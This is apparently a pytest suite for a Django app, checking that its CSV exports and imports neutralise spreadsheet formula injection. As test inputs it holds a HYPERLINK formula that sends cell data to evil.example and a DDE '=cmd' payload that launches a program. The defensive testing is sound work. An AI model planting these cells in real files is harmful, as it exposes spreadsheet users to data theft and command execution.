"""CSV files for spreadsheets: a text cell never starts a formula, numbers stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from goaldesk.accounts.models import Role
from goaldesk.core.csv_safe import csv_cell_restore, csv_safe_cell, csv_writer
from goaldesk.interactions.models import ImportJob
from goaldesk.interactions.tasks import import_job_task
from goaldesk.scheduling.files import shifts_csv
from goaldesk.scheduling.models import Schedule
from goaldesk.scheduling.services import shift_add
from tests.factories import AgentFactory, TeamFactory
from tests.metrics.conftest import at, make_interaction

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
SUM = "+SUM(1,2)"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CMD, "'" + CMD),
        (SUM, "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        # numbers, as numbers or as the text of a numeric column, are not touched
        (-3.5, -3.5),
        (-7, -7),
        (Decimal("-1.25"), Decimal("-1.25")),
        (None, None),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1e-3", "-1e-3"),
        ("-.5", "-.5"),
        ("-3.5x", "'-3.5x"),
        # a text that already looks neutralised gets one more quote, so reading it back is exact
        ("'=1", "''=1"),
        ("'-3.5", "'-3.5"),
    ],
)
def test_csv_safe_cell(value, written):
    assert csv_safe_cell(value) == written


@pytest.mark.parametrize("text", [HYPERLINK, CMD, SUM, "-3.5", "'quoted", "'=", "plain", ""])
def test_restore_gives_back_the_text_that_was_written(text):
    assert csv_cell_restore(csv_safe_cell(text)) == text


def test_writer_writes_what_a_spreadsheet_reads_as_text():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["name", "score"])
    writer.writerows([[SUM, -3.5], ["@x", "-4"]])
    assert out.getvalue() == "name,score\n\"'+SUM(1,2)\",-3.5\n'@x,-4\n"


# --- every CSV the product writes for people ----------------------------------------------------


@pytest.fixture
def hostile(org):
    """One interaction whose category, agent and team would run as formulas in a spreadsheet."""
    team = TeamFactory(organisation=org, name=SUM)
    agent = AgentFactory(organisation=org, name=CMD, team=team)
    make_interaction(
        org,
        created_at=at("2026-03-03", "10:00", "Asia/Tehran"),
        category=HYPERLINK,
        agent=agent,
        team=team,
        wait_seconds=5,
    )
    return org


@pytest.mark.django_db
@pytest.mark.parametrize(("by", "label"), [("category", HYPERLINK), ("agent", CMD), ("team", SUM)])
def test_breakdown_csv_neutralises_labels(client_as, hostile, by, label):
    response = client_as(Role.VIEWER).get(
        reverse("metrics:breakdown", args=[hostile.slug, by]),
        {"from": "2026-03-01", "to": "2026-03-31", "format": "csv"},
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    assert rows[0]["label"] == "'" + label
    assert rows[0]["contacts"] == "1"
    if by == "category":
        assert rows[0]["group"] == "'" + HYPERLINK


@pytest.mark.django_db
def test_rejected_rows_csv_neutralises_the_file_values(client_as, org, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    client = client_as(Role.MANAGER)
    text = f'Ticket,Kanal,Opened\nA-1,phone,2026-03-02 09:00\n"{SUM}",{CMD},-2\n'
    client.post(
        reverse("imports:start", args=[org.slug]),
        {"file": SimpleUploadedFile("calls.csv", text.encode()), "kind": "interactions"},
    )
    job = ImportJob.objects.get(organisation=org)
    mapping = {"map_external_id": "Ticket", "map_channel": "Kanal", "map_created_at": "Opened",
               "action": "import"}  # fmt: skip
    # The formula in the channel column is no channel: the page lists it first; left unmapped,
    # its row is rejected.
    listed = client.post(reverse("imports:mapping", args=[org.slug, job.pk]), mapping)
    shown = {}
    for n, row in enumerate(listed.context["unknown_values"]):
        shown |= {f"value_field_{n}": row["vocabulary"], f"value_source_{n}": row["value"]}
    assert shown
    client.post(reverse("imports:mapping", args=[org.slug, job.pk]), {**mapping, **shown})
    import_job_task.call(job.pk)
    download = client.get(reverse("imports:rejected_csv", args=[org.slug, job.pk]))
    body = b"".join(download.streaming_content).decode().lstrip("\ufeff")
    lines = list(csv.reader(io.StringIO(body)))
    assert lines[1][:4] == ["'" + SUM, "'" + CMD, "-2", "2"]


@pytest.mark.django_db
def test_schedule_export_and_the_shifts_file_neutralise_agent_names(client_as, org):
    agent = AgentFactory(organisation=org, key="@evil", name=HYPERLINK)
    schedule = Schedule.objects.create(
        organisation=org, week_start=dt.date(2026, 3, 7), interval_minutes=60,
        state=Schedule.State.DONE, requirement=[],
    )  # fmt: skip
    start = dt.datetime(2026, 3, 7, 9, tzinfo=org.tzinfo)
    shift_add(schedule=schedule, agent=agent, start=start, minutes=480)
    export = client_as(Role.VIEWER).get(
        reverse("scheduling:schedule_export", args=[org.slug, schedule.pk])
    )
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert rows[1][:3] == ["'@evil", "'" + HYPERLINK, "2026-03-07T09:00+03:30"]
    assert rows[1][-1] == "8"


def test_shifts_file_of_the_command_line_neutralises_agent_ids():
    from goaldesk.engine.rostering.model import Shift

    start = dt.datetime(2026, 3, 7, 9, tzinfo=dt.UTC)
    text = shifts_csv([Shift(CMD, start, start + dt.timedelta(hours=8))], dt.UTC, {CMD: SUM})
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:3] == ["'" + CMD, "'" + SUM, "2026-03-07T09:00+00:00"]


def test_forecast_file_reads_back_a_channel_our_csv_quoted():
    from goaldesk.forecasting.history import parse_forecast

    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerows([["timestamp", "forecast", "channel"], ["2026-03-07T09:00Z", 4, "=Chat"]])
    assert "'=Chat" in out.getvalue()
    parsed = parse_forecast(out.getvalue(), timezone="UTC")
    assert [p.channel for p in parsed.points] == ["=chat"]
